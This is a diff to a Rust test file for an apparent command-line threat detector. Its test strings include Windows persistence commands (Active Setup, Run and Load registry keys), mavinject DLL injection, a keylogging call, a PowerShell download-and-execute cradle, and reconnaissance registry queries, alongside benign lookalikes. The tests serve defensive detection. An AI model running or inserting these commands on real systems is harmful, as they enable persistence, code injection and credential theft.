@@ -48,6 +48,56 @@ fn behaviour_is_recognised_with_its_technique() {
             "T1105",
         ),
         (
+            r"reg query HKCU\Software\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated",
+            "registry-query",
+            "T1012",
+        ),
+        (
+            r#"Get-ItemProperty -Path "HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon""#,
+            "registry-query",
+            "T1012",
+        ),
+        (
+            "New-PSDrive -PSProvider registry -Root HKEY_CLASSES_ROOT -Name HKCR",
+            "registry-query",
+            "T1012",
+        ),
+        (
+            r"Get-ChildItem -Path Registry::HKEY_USERS -Recurse",
+            "registry-query",
+            "T1012",
+        ),
+        (
+            r#"reg add "HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{C9E9A340-D1F1-11D0-821E-444553540600}" /v StubPath /d "C:\Users\Public\a.exe" /f"#,
+            "active-setup",
+            "T1547.014",
+        ),
+        (
+            r"reg add HKLM\System\CurrentControlSet\Control\BootVerificationProgram /v ImagePath /t REG_SZ /d C:\Users\Public\b.exe",
+            "run-key",
+            "T1547.001",
+        ),
+        (
+            r#"reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows" /v Load /t REG_SZ /d C:\Users\Public\c.exe"#,
+            "run-key",
+            "T1547.001",
+        ),
+        (
+            r#"Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Windows" -Name Run -Value C:\Users\Public\c.exe"#,
+            "run-key",
+            "T1547.001",
+        ),
+        (
+            r"mavinject.exe 4242 /INJECTRUNNING C:\Users\Public\x.dll",
+            "reflective-load",
+            "T1055",
+        ),
+        (
+            r"Get-Keystrokes -LogPath $env:TEMP\key.log",
+            "keylogging",
+            "T1056.001",
+        ),
+        (
             "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
             "download-execute-powershell",
             "T1059.001",
@@ -688,6 +738,20 @@ fn administration_that_looks_alike_is_not_named() {
             "grep filebeat docker-compose.yml",
             "security-software-discovery",
         ),
+        (
+            r#"Get-ItemProperty "C:\Program Files\App\app.exe" | Select-Object VersionInfo"#,
+            "registry-query",
+        ),
+        ("Get-ChildItem HKLM_backup.txt", "registry-query"),
+        (
+            r"reg query HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components /s",
+            "run-key",
+        ),
+        (
+            r"Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows Defender' -Name ProductStatus",
+            "run-key",
+        ),
+        ("mavinject.exe /?", "reflective-load"),
     ];
     for (text, id) in cases {
         let hits = s.scan([*text]);
